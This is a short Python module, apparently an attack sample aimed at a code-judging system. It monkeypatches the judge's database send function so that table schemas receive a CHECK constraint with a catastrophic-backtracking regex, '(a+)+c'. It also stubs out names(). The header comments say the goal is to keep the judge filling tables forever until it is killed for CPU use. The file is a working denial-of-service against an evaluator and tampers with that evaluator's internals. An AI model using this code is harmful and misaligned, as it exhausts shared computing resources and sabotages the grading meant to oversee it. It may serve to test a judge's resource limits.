# attack: makes its tables so that the judge never comes to an end of filling them
# killed: cpu
from overlap._database import base

send = base.send


def send_other(sql, *rest):
    if isinstance(sql, list):
        check = "CHECK (name || 'aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab' NOT REGEXP '(a+)+c')"
        sql = [one.replace('"name" varchar(50) NOT NULL UNIQUE', f'"name" varchar(50) {check}') for one in sql]
    return send(sql, *rest)


base.send = send_other


async def names():
    return []
